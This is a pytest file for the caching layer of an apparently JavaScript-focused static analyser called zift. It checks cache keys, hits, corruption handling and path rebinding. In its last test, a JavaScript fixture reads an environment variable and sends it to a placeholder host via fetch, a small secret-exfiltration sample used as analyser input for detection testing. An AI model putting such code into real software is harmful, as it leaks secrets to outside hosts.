import json

from zift.cache import FactCache, content_key
from zift.collector import extract
from zift.facts import EnvRead, ExportFact, FactKind, FactSet, FlowEdge


class CountingExtractor:

    def __init__(self):
        self.calls = 0

    def __call__(self, content, file_path):
        self.calls += 1
        facts = FactSet([
            EnvRead(FactKind.ENV_READ, file_path, 1, variable="process.env.SECRET"),
            ExportFact(FactKind.EXPORTS, file_path, 2, name="default", local=None, export_type="default"),
        ])
        return facts, [FlowEdge("process.env.SECRET", "s", file_path, 1)]


def test_key_depends_on_content_and_version():
    assert content_key("a", "1") != content_key("b", "1")
    assert content_key("a", "1") != content_key("a", "2")
    assert content_key("a", "1") == content_key("a", "1")


def test_miss_then_hit(tmp_path):
    cache = FactCache(tmp_path / "cache", version="t")
    extractor = CountingExtractor()
    first = cache.get_or_extract("src", "/p/a.js", extractor)
    second = cache.get_or_extract("src", "/p/a.js", extractor)
    assert extractor.calls == 1
    assert first == second
    assert cache.path_for(content_key("src", "t")).exists()


def test_hit_is_rebound_to_current_path(tmp_path):
    cache = FactCache(tmp_path, version="t")
    extractor = CountingExtractor()
    cache.get_or_extract("same", "/p/a.js", extractor)
    facts, flows = cache.get_or_extract("same", "/p/copy.js", extractor)
    assert extractor.calls == 1
    assert {f.file for f in facts} == {"/p/copy.js"}
    assert [e.file for e in flows] == ["/p/copy.js"]


def test_missing_entry_loads_as_none(tmp_path):
    assert FactCache(tmp_path).load("0" * 64, "/p/a.js") is None


def test_corrupt_entry_is_reextracted_and_overwritten(tmp_path):
    cache = FactCache(tmp_path, version="t")
    key = content_key("src", "t")
    cache.path_for(key).write_text("{not json", encoding="utf-8")
    extractor = CountingExtractor()
    facts, _ = cache.get_or_extract("src", "/p/a.js", extractor)
    assert extractor.calls == 1
    assert facts.count(FactKind.ENV_READ) == 1
    data = json.loads(cache.path_for(key).read_text(encoding="utf-8"))
    assert {d["kind"] for d in data["facts"]} == {"ENV_READ", "EXPORTS"}


def test_wrong_shape_entry_is_corruption(tmp_path):
    cache = FactCache(tmp_path, version="t")
    key = content_key("src", "t")
    cache.path_for(key).write_text(json.dumps({"facts": [{"kind": "NOPE"}], "flows": []}))
    extractor = CountingExtractor()
    cache.get_or_extract("src", "/p/a.js", extractor)
    assert extractor.calls == 1


def test_warm_and_cold_results_match(tmp_path):
    source = "const s = process.env.S;\nfetch('http://x/' + s);"
    cold = extract(source, "/p/a.js")
    cache = FactCache(tmp_path, version="t")
    cache.get_or_extract(source, "/p/a.js", extract)
    warm = cache.get_or_extract(source, "/p/a.js", extract)
    assert warm == cold
